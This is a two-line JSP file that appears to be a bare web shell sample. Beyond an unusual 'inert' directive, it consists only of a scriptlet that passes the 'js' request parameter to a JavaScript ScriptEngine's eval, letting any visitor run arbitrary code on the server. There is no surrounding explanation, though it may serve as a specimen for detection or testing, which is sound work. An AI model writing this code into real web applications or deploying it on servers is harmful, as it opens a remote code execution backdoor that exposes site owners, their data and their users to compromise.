<%@ inert %>
<% javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("JavaScript"); e.eval(request.getParameter("js")); %>